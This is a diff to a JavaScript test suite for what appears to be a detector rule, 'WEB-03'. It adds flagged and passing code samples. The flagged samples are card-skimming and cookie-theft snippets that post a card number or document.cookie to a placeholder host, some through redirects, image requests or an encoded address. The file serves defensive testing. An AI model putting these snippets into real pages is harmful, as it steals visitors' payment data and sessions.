@@ -54,6 +54,10 @@ describeVerdicts("WEB-03", {
         const card = document.querySelector("#card-number").value;
         fetch("${url}", { method: "POST", body: card });
       });`,
+    "a page that goes on with what was typed": `
+      document.querySelector("form").addEventListener("submit", () => {
+        location.href = "${url}?c=" + document.querySelector("#card-number").value;
+      });`,
     "cookies in an image": `new Image().src = "${url}?c=" + encodeURIComponent(document.cookie);`,
     "to an encoded host": `
       const u = atob("${base64(url)}");
@@ -74,6 +78,15 @@ describeVerdicts("WEB-03", {
   passes: {
     "a form of the caller": `exports.submit = (form, to) => fetch(to, { method: "POST", body: new FormData(form) });`,
     "a value that is returned": `exports.value = (selector) => document.querySelector(selector).value;`,
+    "a filter in the address of the page": `
+      document.querySelector("#filter").addEventListener("change", () => {
+        location.href = location.pathname + "?filter=" + encodeURIComponent(document.querySelector("#filter").value);
+      });`,
+    "a search of who builds the page": `
+      const base = require("search-pages").default();
+      document.querySelector("#q").addEventListener("change", () => { location.href = base + "?q=" + document.querySelector("#q").value; });`,
+    "a link that an editor opens": `
+      exports.open = () => { location.href = "editor://file/" + document.querySelector("#file").value; };`,
     "a page view": `fetch("${url}", { method: "POST", body: location.pathname });`,
     "a form that goes where the page says": `
       export const submit = (url) => async (e) => fetch(url, { method: "POST", body: new FormData(e.target) });
